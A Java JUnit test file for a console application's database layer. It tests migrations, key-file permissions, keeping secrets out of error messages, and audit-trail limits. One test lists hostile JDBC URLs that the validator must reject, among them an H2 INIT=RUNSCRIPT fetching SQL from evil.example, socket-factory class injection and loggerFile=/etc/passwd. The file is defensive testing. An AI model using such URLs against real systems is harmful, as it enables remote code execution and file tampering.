package dev.connectorkit.console.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.connectorkit.console.DatabaseKind;
import dev.connectorkit.console.MovingClock;
import dev.connectorkit.console.audit.AuditEntry;
import dev.connectorkit.console.audit.AuditTrail;
import dev.connectorkit.console.error.SettingException;
import dev.connectorkit.spi.ConnectorException;
import dev.connectorkit.spi.Secret;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Opening, migrating and refusing databases, and the files beside them. */
class ConsoleDatabaseTest {

  @TempDir Path folder;

  @ParameterizedTest
  @EnumSource(DatabaseKind.class)
  void whatIsStoredIsThereAfterTheNextStart(DatabaseKind kind) {
    DatabaseSettings settings = kind.fresh(folder);
    try (var database = ConsoleDatabase.open(settings)) {
      new AuditTrail(database, new MovingClock()).add("ada", "test.done", "something");
    }
    try (var database = ConsoleDatabase.open(settings)) {
      assertThat(new AuditTrail(database, new MovingClock()).entries(Long.MAX_VALUE, 10))
          .extracting(AuditEntry::subject)
          .containsExactly("something");
    }
  }

  @ParameterizedTest
  @EnumSource(DatabaseKind.class)
  void aDatabaseOfALaterVersionIsRefused(DatabaseKind kind) {
    DatabaseSettings settings = kind.fresh(folder);
    try (var database = ConsoleDatabase.open(settings)) {
      database.change(
          handle ->
              handle.execute(
                  "INSERT INTO \"console_schema_version\" (\"installed_rank\", \"version\","
                      + " \"description\", \"type\", \"script\", \"checksum\", \"installed_by\","
                      + " \"installed_on\", \"execution_time\", \"success\")"
                      + " VALUES (999, '999', 'later', 'SQL', 'V999__later.sql', 1, 'x',"
                      + " CURRENT_TIMESTAMP, 1, TRUE)"));
    }
    assertThatThrownBy(() -> ConsoleDatabase.open(settings).close())
        .isInstanceOf(SettingException.class)
        .hasMessageContaining("later version");
  }

  @Test
  void severalConsolesMayMakeTheTablesAtOnce() throws Exception {
    DatabaseSettings settings = DatabaseKind.POSTGRESQL.fresh(folder);
    Callable<Boolean> start =
        () -> {
          try (var database = ConsoleDatabase.open(settings)) {
            return database.answers();
          }
        };
    var pool = Executors.newFixedThreadPool(3);
    try {
      for (Future<Boolean> started : pool.invokeAll(List.of(start, start, start))) {
        assertThat(started.get()).isTrue();
      }
    } finally {
      pool.shutdownNow();
    }
  }

  @Test
  void aServerThatIsNotThereIsSaidPlainly() {
    DatabaseSettings settings =
        DatabaseSettings.postgresql(
            "jdbc:postgresql://127.0.0.1:1/console",
            Optional.of("console"),
            Optional.of(Secret.of("canary password")));
    assertThatThrownBy(() -> ConsoleDatabase.open(settings).close())
        .isInstanceOf(SettingException.class)
        .hasMessageContaining("cannot be used")
        .hasMessageNotContaining("canary");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "postgresql://localhost/console",
        "jdbc:postgresql:console",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:mysql://localhost/console",
        "jdbc:postgresql://ada:canary@localhost/console",
        "jdbc:postgresql://localhost/console?password=canary",
        "jdbc:postgresql://localhost/console?user=ada&password=canary",
        "jdbc:postgresql://localhost/console?socketFactory=org.example.Evil",
        "jdbc:postgresql://localhost/console?sslfactory=org.example.Evil",
        "jdbc:postgresql://localhost/console?loggerFile=/etc/passwd",
        "jdbc:postgresql://localhost/console?sslmode=require&socketFactoryArg=x",
        "jdbc:postgresql://localhost/console?sslmode",
        "jdbc:postgresql://localhost/console?sslmode=%66"
      })
  void aUrlWithMoreInItThanAnAddressIsRefusedAndNotQuoted(String url) {
    assertThatThrownBy(() -> DatabaseSettings.postgresql(url, Optional.empty(), Optional.empty()))
        .isInstanceOf(SettingException.class)
        .hasMessageNotContaining("canary")
        .hasMessageNotContaining("evil");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://localhost/console",
        "jdbc:postgresql://db.example:5432/console?sslmode=verify-full&sslrootcert=/etc/ca.pem",
        "jdbc:postgresql://one.example:5432,two.example:5432/console?targetServerType=primary",
        "jdbc:postgresql://[::1]:5432/console"
      })
  void anAddressIsTaken(String url) {
    assertThat(DatabaseSettings.postgresql(url, Optional.empty(), Optional.empty()).url())
        .isEqualTo(url);
  }

  @Test
  void theKeyFileIsForItsOwnerAloneAndIsNotWrittenTwice() throws Exception {
    Path data = folder.resolve("deep").resolve("data");
    KeyFile.createFolder(data);
    Path file = data.resolve("keys");
    Path database = data.resolve("console.mv.db");
    KeyFile.createIfMissing(file, database);
    String first = Files.readString(file);
    KeyFile.createIfMissing(file, database);

    assertThat(Files.readString(file)).isEqualTo(first);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
        .isEqualTo("rw-------");
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(data)))
        .isEqualTo("rwx------");
    assertThat(KeyFile.read(file).toString()).contains("key-");

    Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r--r--"));
    assertThatThrownBy(() -> KeyFile.read(file))
        .isInstanceOf(SettingException.class)
        .hasMessageContaining("chmod 600");
  }

  @Test
  void aDatabaseThatLostItsKeyGetsNoOther() throws Exception {
    Path file = folder.resolve("keys");
    Path database = Files.createFile(folder.resolve("console.mv.db"));

    assertThatThrownBy(() -> KeyFile.createIfMissing(file, database))
        .isInstanceOf(SettingException.class)
        .hasMessageContaining("Put it back")
        .hasMessageContaining("To begin anew");
    assertThat(file).doesNotExist();
  }

  @Test
  void noTwoKeysHaveTheSameId() throws Exception {
    Path database = folder.resolve("console.mv.db");
    KeyFile.createIfMissing(folder.resolve("one"), database);
    KeyFile.createIfMissing(folder.resolve("other"), database);

    assertThat(Files.readString(folder.resolve("one")).split(" ")[0])
        .isNotEqualTo(Files.readString(folder.resolve("other")).split(" ")[0]);
  }

  @Test
  void theFilesOfTheDatabaseAreForTheirOwnerAlone() throws Exception {
    try (var database = ConsoleDatabase.open(DatabaseSettings.embeddedIn(folder))) {
      assertThat(database.answers()).isTrue();
      try (Stream<Path> files = Files.list(folder)) {
        assertThat(files)
            .isNotEmpty()
            .allSatisfy(
                file ->
                    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file)))
                        .isEqualTo("rw-------"));
      }
    }
  }

  @Test
  void aThreadThatIsInterruptedTakesNothingFromTheOthers() throws Exception {
    try (var database = ConsoleDatabase.open(DatabaseSettings.embeddedIn(folder))) {
      var audit = new AuditTrail(database, new MovingClock());
      for (int i = 0; i < 20; i++) {
        var writer = new Thread(() -> audit.add("ada", "test.done", "interrupted"));
        writer.setUncaughtExceptionHandler((thread, failure) -> {});
        writer.start();
        writer.interrupt();
        writer.join();
      }
      audit.add("ada", "test.done", "after");
      assertThat(audit.entries(Long.MAX_VALUE, 1))
          .extracting(AuditEntry::subject)
          .containsExactly("after");
    }
  }

  @Test
  void keysAreLinesOrParts() {
    String one = "first BVhv5sXd0GcIyNv1lXJAF0zoHnAXWpdYiqi2RQFFoEE=";
    String two = "second 4V3iQeQ0c0cDmHHuBHcPZ0vbFBPRlT6rDtaTCFp3DSs=";
    for (String text :
        List.of(two + "\n" + one, two + ", " + one, "# new\n" + two + "\r\n\n" + one)) {
      assertThat(KeyFile.parse(Secret.of(text)).toString())
          .isEqualTo("SealingKeys[current=second, all=[first, second]]");
    }
    for (String text : List.of("first", "first canary", "# nothing", one + "\n" + one, "a b c")) {
      assertThatThrownBy(() -> KeyFile.parse(Secret.of(text)))
          .isInstanceOf(SettingException.class)
          .hasMessageNotContaining("canary")
          .hasMessageNotContaining("BVhv5");
    }
  }

  @ParameterizedTest
  @EnumSource(DatabaseKind.class)
  void aFailureOfTheDatabaseDoesNotQuoteWhatWasToBeStored(DatabaseKind kind) {
    try (var database = ConsoleDatabase.open(kind.fresh(folder))) {
      Runnable twice =
          () ->
              database.change(
                  handle ->
                      handle.execute(
                          "INSERT INTO console_session"
                              + " (token_hash, operator, begun_at, seen_at, ends_at)"
                              + " VALUES ('canary', ?, 1, 1, 1)",
                          "canary operator"));
      assertThatThrownBy(twice::run)
          .isInstanceOf(ConnectorException.class)
          .hasMessageContaining("23")
          .satisfies(
              thrown -> {
                if (kind == DatabaseKind.POSTGRESQL) {
                  for (Throwable t = thrown; t != null; t = t.getCause()) {
                    assertThat(t.getMessage()).doesNotContain("canary operator");
                  }
                }
              });
    }
  }

  @ParameterizedTest
  @EnumSource(DatabaseKind.class)
  void theTrailIsBoundedAndTakesAnyText(DatabaseKind kind) {
    try (var database = ConsoleDatabase.open(kind.fresh(folder))) {
      var audit = new AuditTrail(database, new MovingClock());
      audit.add("a\u0000b", "test.done", "x".repeat(199) + "🔑🔑");
      database.change(
          handle -> {
            audit.add(handle, "ada", "test.done", "", "ä".repeat(30_000), "\ud800");
            return 0;
          });
      List<AuditEntry> entries = audit.entries(Long.MAX_VALUE, 10);
      assertThat(entries.get(0).before()).hasSize(20_000).endsWith("…");
      assertThat(entries.get(1).actor()).isEqualTo("a b");
      assertThat(entries.get(1).subject()).endsWith("x…").hasSize(200);

      // Twice as many each time: more than are kept.
      IntStream.range(0, 13)
          .forEach(
              i ->
                  database.change(
                      handle ->
                          handle.execute(
                              "INSERT INTO console_audit"
                                  + " (happened_at, actor, action, subject, value_before, value_after)"
                                  + " SELECT happened_at, actor, action, 'old', '', ''"
                                  + " FROM console_audit")));
      IntStream.range(0, 100).forEach(i -> audit.add("ada", "test.done", "new"));

      assertThat(audit.entries(Long.MAX_VALUE, 100))
          .extracting(AuditEntry::subject)
          .containsOnly("new");
      long kept =
          database.read(
              handle ->
                  handle.createQuery("SELECT COUNT(*) FROM console_audit").mapTo(Long.class).one());
      assertThat(kept).isBetween((long) AuditTrail.KEPT, AuditTrail.KEPT + 100L);
    }
  }
}
